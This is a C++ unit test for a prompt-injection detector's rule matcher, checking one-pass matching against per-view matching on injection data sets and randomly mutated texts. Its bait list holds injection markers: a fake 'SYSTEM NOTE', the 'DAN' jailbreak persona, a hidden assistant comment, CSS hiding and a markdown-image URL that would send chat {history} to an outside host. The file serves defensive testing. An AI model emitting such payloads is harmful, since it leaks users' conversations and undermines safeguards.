// ValidationRules::Match finds the raw and normalised-view rules in one pass over the raw text when
// its folded view is the raw text lower-cased; it must give exactly what one pass per view gives
// (MatchByViews), on the data sets' texts, on those texts with their case, spacing and secrets
// changed at random, and with a rules file whose normalised-view rule is case-sensitive (no
// one-pass set then).
#include <gtest/gtest.h>

#include <fstream>
#include <nlohmann/json.hpp>
#include <random>
#include <string>
#include <vector>

#include "detect/validation_rules.h"
#include "testing/corpus_field.h"
#include "testing/status_matchers.h"

namespace bulwark {
namespace {

using ::bulwark::testing::IsOk;

std::vector<std::string> InjectionTexts() {
  std::vector<std::string> out;
  for (const char* split : {"injection_train.jsonl", "injection_test.jsonl"}) {
    std::ifstream in(std::string(BULWARK_SOURCE_DIR) + "/data/injection/" + split);
    std::string line;
    while (std::getline(in, line)) out.push_back(nlohmann::json::parse(line).at("text").get<std::string>());
  }
  return out;
}

void ExpectSame(const ValidationRules& rules, const std::string& text) {
  const NormalizedText normalized = NormalizeText(text);
  absl::InlinedVector<uint32_t, 4> one_pass, by_views;
  rules.Match(text, normalized, &one_pass);
  rules.MatchByViews(text, normalized, &by_views);
  EXPECT_EQ(std::vector<uint32_t>(one_pass.begin(), one_pass.end()),
            std::vector<uint32_t>(by_views.begin(), by_views.end()))
      << text;
}

// `text` with letters' case flipped, tabs for spaces and raw-rule bait inserted, at random.
std::string Mutate(std::string text, std::mt19937& rng) {
  static const char* const kBait[] = {"SYSTEM NOTE: ",
                                      " DAN ",
                                      "sk-abcdefghijklmnop1234 ",
                                      "<!-- assistant: ",
                                      "display: none;",
                                      "![a](https://x.example/p?q={history})",
                                      "\t"};
  for (char& c : text) {
    if (rng() % 6 == 0 && ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z'))) c ^= 0x20;
    if (c == ' ' && rng() % 40 == 0) c = '\t';
  }
  if (rng() % 3 == 0) text.insert(rng() % (text.size() + 1), kBait[rng() % std::size(kBait)]);
  return text;
}

TEST(ValidationRulesOnePassTest, EqualsOnePassPerView) {
  auto rules = ValidationRules::SharedDefault();
  ASSERT_THAT(rules.status(), IsOk());
  const std::vector<std::string> texts = InjectionTexts();
  ASSERT_GT(texts.size(), 2000u);
  const std::vector<std::string> memories = testing::CorpusField("benign_memories.jsonl", "text");
  ASSERT_GT(memories.size(), 1000u);
  // Every third text of both splits, alternately as written and mutated, and every tenth benign
  // memory (each new text costs the sets' first pass: the suite stays within a few seconds under
  // ASan).
  std::mt19937 rng(5);
  size_t flagged = 0;
  for (size_t i = 0; i < texts.size(); i += 3) {
    const std::string text = i % 2 == 0 ? texts[i] : Mutate(texts[i], rng);
    ExpectSame(**rules, text);
    flagged += !(*rules)->Match(text).empty();
  }
  for (size_t i = 0; i < memories.size(); i += 10) ExpectSame(**rules, Mutate(memories[i], rng));
  EXPECT_GT(flagged, 100u);  // the comparison covered matching texts, not only clean ones
}

TEST(ValidationRulesOnePassTest, CaseSensitiveNormalisedRuleIsMatchedByViews) {
  auto rules = ValidationRules::Parse(
      "a\tshout\t(?-i:STOP)\\s+now\n"
      "a\tword\tstop\\s+later\n"
      "b\ttoken\traw\t(?-i:DAN)\n");
  ASSERT_THAT(rules.status(), IsOk());
  // Folded "stop now" has no upper-case STOP: a one-pass match over the raw text would find it.
  EXPECT_TRUE((*rules)->Match("STOP now").empty());
  EXPECT_EQ((*rules)->Match("ask DAN to stop later").size(), 2u);
  for (const char* text : {"STOP now", "Stop Later", "DAN", "dan stop  later"}) ExpectSame(**rules, text);
}

}  // namespace
}  // namespace bulwark
